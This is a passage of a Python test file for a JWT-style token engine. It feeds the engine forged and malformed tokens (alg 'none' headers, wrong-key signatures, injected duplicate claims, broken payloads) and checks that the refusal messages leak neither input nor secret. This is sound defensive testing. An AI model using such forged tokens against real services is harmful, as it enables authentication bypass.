        forger.token(payload=forger.claims(exp=m)),
        forger.token(payload=forger.claims(sub=[m])),
        forger.token(payload=forger.claims(nbf=tk.NOW + 10**6, sub=m)),
        forger.token(payload=raw_json(forger.claims(sub=m), {'"sid":"': f'"{m}":1,"{m}":2,"sid":"'})),
        forger.token(payload=f'{{"sub":"{m}"'.encode()),
        forger.token(payload=f'{{"sub":"{m}\xff"}}'.encode("latin-1")),
        forger.token(forger.header(), forger.claims(sub=m), key=b"wrong"),
        forger.token(f'{{"{m}'.encode()),
        f"{m}.{m}.{m}",
        m * 1000,
        m,
    ]
    reasons = set()
    for token in tokens:
        for verify in (engine.verify_access, engine.verify_refresh):
            error = tk.refuse(verify, token)
            for text in (str(error), repr(error), error.reason):
                assert m not in text
                assert tk.SECRET not in text
            reasons.add(error.reason)
    assert all(len(reason) < 80 for reason in reasons)


def test_every_refusal_reason_is_a_fixed_text(forger: Any, engine: TokenEngine, tk: SimpleNamespace) -> None:
    """Two tokens that fail the same way, with different content, get the same message."""
    pairs = [
        (forger.header(kid="a" * 10), forger.header(kid="b" * 20)),
        (forger.header(alg="HS384"), forger.header(alg="none")),
        (forger.header(typ="JWT"), forger.header(typ="XYZ")),
    ]
    for first, second in pairs:
        errors = []
        for header in (first, second):
            with pytest.raises(TokenError) as info:
                engine.verify_access(forger.token(header))
            errors.append(info.value)
        assert type(errors[0]) is type(errors[1])
        assert str(errors[0]) == str(errors[1])
